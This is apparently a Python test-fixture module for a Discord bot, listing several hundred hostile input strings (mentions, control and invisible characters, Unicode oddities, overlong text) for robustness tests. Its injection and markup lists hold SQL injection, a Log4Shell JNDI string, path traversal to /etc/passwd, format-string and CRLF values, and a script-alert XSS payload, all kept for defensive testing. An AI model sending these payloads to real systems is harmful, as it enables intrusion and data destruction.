"""A corpus of hostile text: what an attacker, a careless paste or a strange keyboard sends the bot.

``HOSTILE`` holds at least 300 distinct strings: mentions of every form, control, bidi and invisible
characters, whitespace Python and Discord disagree on, overlong text, markup, injection attempts,
numbers past what databases hold, and mixtures of them with ordinary words. ``tests/test_hostile.py``
sends each through the commands, options, modals and autocomplete of the bot.
"""

from __future__ import annotations

import itertools

MENTIONS = (
    "@everyone",
    "@here",
    "@ everyone",
    "@\u200beveryone",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&456456456456456456>",
    "<#789789789789789789>",
    "</incident:1234567890>",
    "<t:1700000000:R>",
    "<:emoji:1234567890>",
    "<a:dance:1234567890>",
    "@EVERYONE",
    "＠everyone",
)
CONTROLS = tuple(chr(code) for code in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)))
FORMAT = (
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2060",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u061c",
    "\ufeff",
    "\u00ad",
    "\u180e",
    "\ufff9",
    "\ufffb",
)
SPACES = (
    " ",
    "\u00a0",
    "\u1680",
    "\u2000",
    "\u2003",
    "\u2007",
    "\u2009",
    "\u200a",
    "\u2028",
    "\u2029",
    "\u202f",
    "\u205f",
    "\u3000",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x1f",
    "\x85",
    "\t",
    "\n",
    "\r\n",
)
MARKUP = (
    "**bold** __under__ ~~strike~~",
    "||spoiler||",
    "```py\nprint('hi')\n```",
    "`code`",
    "> quoted\n> more",
    "# Heading",
    "-# subtext",
    "[click here](https://example.invalid/phish)",
    "https://example.invalid/?q=<script>",
    "<https://example.invalid>",
    "<script>alert(1)</script>",
    "*" * 50,
    "_" * 50,
    "\\",
    "\\\\n",
    "\\u0000",
)
INJECTIONS = (
    "'; DROP TABLE incident; --",
    '" OR 1=1 --',
    "singh-2020' OR '1'='1",
    "%s %d %n",
    "{0} {name} {{}}",
    "${jndi:ldap://example.invalid/a}",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "NULL",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    '{"slug": "x"}',
    "%00",
    "%0d%0a",
)
NUMBERS = (
    "0",
    "-1",
    "2147483647",
    "2147483648",
    "-2147483649",
    "9007199254740993",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "-0",
    "0x7fffffff",
    "١٢٣",
    "²",
)
SCRIPTS = (
    "مرحبا بالعالم",
    "שלום עולם",
    "Привет, мир",
    "こんにちは世界",
    "你好，世界",
    "नमस्ते दुनिया",
    "Z̸̧̛̗͓a̵̢̛͉l̴͔̈́g̷̱̈o̵̺͝",
    "e\u0301" * 30,
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇨🇦🇬🇧",
    "ﷺ",
    "𝕤𝕚𝕟𝕘𝕙",
    "ＳＩＮＧＨ",
    "ſingh",
    "İstanbul",
    "ß" * 20,
)
WORDS = ("singh", "singh-2020", "trudeau", "racist", "speaker", "motion", "poilievre", "jagmet")


def _long() -> tuple[str, ...]:
    return (
        "a" * 99,
        "a" * 100,
        "a" * 101,
        "singh " * 40,
        "x" * 1024,
        "x" * 2001,
        "x" * 4001,
        "word " * 1300,
        "\n" * 50 + "end",
        "@everyone " * 300,
    )


def _mixtures() -> list[str]:
    mixed: list[str] = []
    for word, mention in zip(itertools.cycle(WORDS), MENTIONS, strict=False):
        mixed += [f"{word} {mention}", f"{mention}{word}"]
    for word, control in zip(itertools.cycle(WORDS), CONTROLS, strict=False):
        mixed.append(f"{word[:3]}{control}{word[3:]}")
    for word, mark in zip(itertools.cycle(WORDS), FORMAT, strict=False):
        mixed += [f"{mark}{word}", f"{word}{mark}"]
    for space in SPACES:
        mixed += [space, space * 3, f"{space}singh{space}"]
    mixed += [f"{mark}@everyone{mark}" for mark in FORMAT[:8]]
    return mixed


def _corpus() -> tuple[str, ...]:
    every = [*MENTIONS, *CONTROLS, *FORMAT, *MARKUP, *INJECTIONS, *NUMBERS, *SCRIPTS, *_long(), *_mixtures()]
    return tuple(dict.fromkeys(every))  # distinct, in a stable order


HOSTILE = _corpus()
